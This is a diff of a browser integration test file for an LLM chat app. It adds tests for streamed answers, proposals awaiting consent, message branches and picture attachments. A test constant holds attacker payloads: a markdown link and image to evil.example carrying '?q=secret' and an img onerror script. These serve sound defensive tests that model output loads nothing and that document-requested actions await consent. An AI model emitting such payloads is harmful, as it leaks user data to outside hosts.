@@ -5,15 +5,19 @@ import assert from 'node:assert/strict';
 import http from 'node:http';
 import { after, before, test } from 'node:test';
 import { openaiStream } from '../../tests/integration/llm/double.mjs';
-import { launch, line, open, startPixie, welcome } from './lib.mjs';
+import { png } from '../../tests/integration/product/pictures.mjs';
+import { eventually, launch, line, open, startPixie, welcome } from './lib.mjs';
 
+const SQUARE = png(96, 96);
 const HARD = 'compare a heat pump with a gas boiler for a house and explain which one pays off';
 const ATTACK =
   'Here: [my notes](https://evil.example/?q=secret) ![x](https://evil.example/p.png?q=secret) <img src=x onerror="window.hacked=1">';
 
 let provider;
 let says = { text: 'OK.' };
-let paced = 0;
+/** The provider sends until these words are out, then waits to be let go. */
+let holdAfter = null;
+let goOn = () => {};
 let pixie;
 let browser;
 let context;
@@ -31,10 +35,17 @@ async function startProvider() {
     }
     answer.writeHead(200, { 'content-type': 'text/event-stream' });
     const said = typeof says === 'function' ? says(JSON.parse(body)) : says;
+    let sent = '';
     for (const event of openaiStream(said).split(/(?<=\n\n)/)) {
       if (answer.destroyed) return;
       answer.write(event);
-      if (paced) await new Promise((resolve) => setTimeout(resolve, paced));
+      sent += event.match(/"content":"((?:[^"\\]|\\.)*)"/)?.[1] ?? '';
+      if (holdAfter === null || !sent.endsWith(holdAfter)) continue;
+      holdAfter = null;
+      await new Promise((resolve) => {
+        goOn = resolve;
+        answer.once('close', resolve);
+      });
     }
     answer.end();
   });
@@ -74,12 +85,14 @@ const log = () => page.getByRole('log');
 test('an answer stands there in pieces; a reload in the middle loses none of it', async () => {
   const text = Array.from({ length: 60 }, (_, i) => `Here stands word${i}.`).join(' ');
   says = { text };
-  paced = 12;
+  holdAfter = 'word9. ';
   await page.goto('/chat');
   await say(HARD);
   await log().getByText('word3.', { exact: false }).waitFor();
   assert.equal(await log().getByText('word59.', { exact: false }).count(), 0);
   await page.reload();
+  await log().getByText('word3.', { exact: false }).waitFor();
+  goOn();
   await log().getByText('word59.', { exact: false }).waitFor();
   await log().getByText(text, { exact: true }).waitFor();
   assert.equal(await log().locator('[data-message]').count(), 2);
@@ -87,7 +100,7 @@ test('an answer stands there in pieces; a reload in the middle loses none of it'
 
 test('stopped by Escape: what was said stays, and says so', async () => {
   says = { text: Array.from({ length: 200 }, (_, i) => `Here stands more${i}.`).join(' ') };
-  paced = 12;
+  holdAfter = 'more9. ';
   await say(`${HARD}, once more`);
   await log().getByText('more2.', { exact: false }).waitFor();
   await page.keyboard.press('Escape');
@@ -95,7 +108,6 @@ test('stopped by Escape: what was said stays, and says so', async () => {
   const answer = await log().locator('[data-message]').last().textContent();
   assert.match(answer, /more0/);
   assert.doesNotMatch(answer, /more199/);
-  paced = 0;
 });
 
 test('links and pictures of a model lead nowhere and load nothing', async () => {
@@ -120,7 +132,10 @@ test('what a document may have asked for waits in the chat and in the inbox; acc
   form.append('file', new Blob([manual], { type: 'text/markdown' }), 'boiler.md');
   const headers = { authorization: `Bearer ${pixie.server.token}` };
   await fetch(`${pixie.url}/api/v1/documents`, { method: 'POST', headers, body: form });
-  while ((await pixie.api('GET', '/documents')).items[0].status === 'reading') await page.waitForTimeout(50);
+  await eventually(
+    async () => (await pixie.api('GET', '/documents')).items[0].status !== 'reading',
+    'it is read',
+  );
   says = (body) =>
     body.messages.some((message) => message.role === 'tool')
       ? { text: 'It waits for you.' }
@@ -138,8 +153,30 @@ test('what a document may have asked for waits in the chat and in the inbox; acc
   await page.getByText('Done: Delete the task “Buy stamps”').waitFor();
   assert.equal((await pixie.api('GET', '/tasks?q=stamps&status=open')).items.length, 0);
   await page.keyboard.press('Control+z');
-  await page.waitForTimeout(500);
-  assert.equal((await pixie.api('GET', '/tasks?q=stamps&status=open')).items.length, 1);
+  await eventually(
+    async () => (await pixie.api('GET', '/tasks?q=stamps&status=open')).items.length === 1,
+    'it is back',
+  );
+});
+
+test('a proposal is put off by a key, brought back, and put off by the menu', async () => {
+  const card = page.locator('[data-proposal]').first();
+  await card.getByRole('button', { name: 'Accept' }).waitFor();
+  await page.keyboard.press('s');
+  await page.getByText('Nothing waits for your consent.', { exact: false }).waitFor();
+  const [row] = (await pixie.api('GET', '/proposals?state=open')).items;
+  assert.ok(Date.parse(row.snoozed) > Date.now());
+  await page.getByText('1 put off').click();
+  const menu = card.getByRole('button', { name: /^Later/ });
+  await menu.click();
+  await page.getByRole('menuitem', { name: 'Now' }).click();
+  await page.getByText('Nothing waits', { exact: false }).waitFor({ state: 'detached' });
+  await menu.click();
+  await page.getByRole('menuitem', { name: 'In three days' }).click();
+  await page.getByText('1 put off').waitFor();
+  await page.getByRole('navigation').getByRole('img', { name: '1 waiting' }).waitFor({ state: 'detached' });
+  await page.keyboard.press('Control+z');
+  await card.getByRole('button', { name: 'Decline' }).click();
 });
 
 test('a file given in the chat is read, and stands there until one speaks', async () => {
@@ -166,6 +203,37 @@ test('a message said otherwise takes back what it did', async () => {
   await log().getByText('Buy green paint', { exact: true }).waitFor();
   const titles = (await pixie.api('GET', '/tasks?q=paint&status=open')).items.map((one) => one.title);
   assert.deepEqual(titles, ['Buy green paint']);
+  // The earlier version is a branch of its own, with what it did struck out.
+  assert.equal(await log().getByText('buy yellow paint', { exact: true }).count(), 0);
+  await log().getByText('2 of 2').waitFor();
+  await log().getByRole('button', { name: 'Earlier version' }).click();
+  await log().getByText('1 of 2').waitFor();
+  await log().getByText('buy yellow paint', { exact: true }).waitFor();
+  await log().getByRole('button', { name: 'Redo' }).last().waitFor();
+  assert.equal(await log().getByText('buy green paint', { exact: true }).count(), 0);
+  await page.reload();
+  await log().getByText('2 of 2').waitFor(); // another device sees the same
+});
+
+test('a picture goes with what is said, to the model too, and stands in the talk', async () => {
+  const seen = [];
+  says = (body) => {
+    seen.push(JSON.stringify(body.messages.at(-1)));
+    return { text: 'A red square.' };
+  };
+  await page
+    .locator('[data-attach]')
+    .setInputFiles({ name: 'square.png', mimeType: 'image/png', buffer: SQUARE });
+  await page.getByText('goes with your message').waitFor();
+  await say('what is in this picture? describe it and compare it with a blue one');
+  await log().getByText('A red square.').waitFor();
+  assert.match(seen[0], /image_url/);
+  const picture = log().getByRole('img', { name: 'Picture: square.png' });
+  await eventually(() => picture.evaluate((image) => image.naturalWidth > 0), 'it is drawn');
+  await page.reload();
+  await picture.waitFor();
+  assert.equal(await page.getByText('goes with your message').count(), 0);
+  says = { text: 'OK.' };
 });
 
 test('what is spoken stands in the line, and is sent by the person', async () => {
